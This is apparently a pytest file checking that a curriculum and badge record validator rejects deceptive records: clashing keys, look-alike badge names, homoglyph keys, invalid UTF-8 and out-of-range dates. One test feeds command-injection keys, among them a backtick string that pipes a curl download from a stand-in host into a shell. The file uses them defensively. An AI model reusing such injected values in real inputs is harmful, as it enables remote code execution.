"""Records that make a reader take one thing for another: no vote should be able to adopt them."""

import pytest

from cairn.curricula.record import BadgeClass, Issuer

LAST_DAY, LAST_SECOND = 2**24 - 1, 2**40 - 1  # what the fields hold; the years 47904 and 36812


@pytest.fixture
def is_refused(scene, refusal_of):
    """Whether a record, or its bytes, could not take effect."""

    def is_refused(record):
        data = record if isinstance(record, bytes) else record.encode()
        return refusal_of(scene.curricula.check, scene.stage(data)) is not None

    return is_refused


@pytest.fixture
def second_of_bees(scene, bees):
    """Let a curriculum be adopted, and word a second version of it."""
    number = scene.adopt(bees())

    def second_of_bees(**fields):
        blank = {"classes": (), "rules": (), "issuers": (), "curriculum": number, "version": 2}
        return bees(**{**blank, **fields})

    return second_of_bees


def test_a_curriculum_is_refused_under_the_key_of_another(scene, bees, is_refused):
    scene.adopt(bees())
    assert is_refused(bees(title="Beekeeping, the rival"))


def test_a_version_is_refused_under_the_key_of_another_curriculum(
    scene, bees, second_of_bees, is_refused
):
    scene.adopt(bees(key="medicine", title="Medicine"))
    assert is_refused(second_of_bees(key="medicine", title="Medicine"))


def test_a_version_is_refused_that_names_a_new_badge_like_an_old_one(second_of_bees, is_refused):
    assert is_refused(second_of_bees(classes=(BadgeClass("b1", "Badge 1"),)))


def test_a_version_is_refused_whose_plain_badge_is_named_like_a_composite(
    second_of_bees, is_refused
):
    assert is_refused(second_of_bees(classes=(BadgeClass("keeper", "Beekeeper"),)))


def test_a_record_is_refused_that_names_two_badges_alike(bees, is_refused):
    sound = bees()
    classes = (*sound.classes[:1], BadgeClass("b1", "Attendance"), *sound.classes[2:])
    assert is_refused(bees(classes=classes))


@pytest.mark.parametrize("key", ["x`curl e.example|sh`", "$(true)", "b\u0435\u0435s"])
def test_a_record_is_refused_whose_keys_a_file_could_not_hold(bees, is_refused, key):
    assert is_refused(bees(key=key))


@pytest.mark.parametrize("text", [b"bees", b"Beekeeping", b"b1", b"Badge 2"])
def test_a_record_is_refused_whose_text_is_no_utf_8(bees, is_refused, text):
    data = bees().encode()
    assert is_refused(data.replace(text, b"\xff" + text[1:]))


def test_a_record_is_refused_whose_review_is_on_no_day_of_a_calendar(bees, is_refused):
    assert is_refused(bees(review_day=LAST_DAY))


def test_a_record_is_refused_whose_issuer_ends_on_no_day_of_a_calendar(scene, bees, is_refused):
    assert is_refused(bees(issuers=(Issuer(scene.issuer, LAST_SECOND),)))
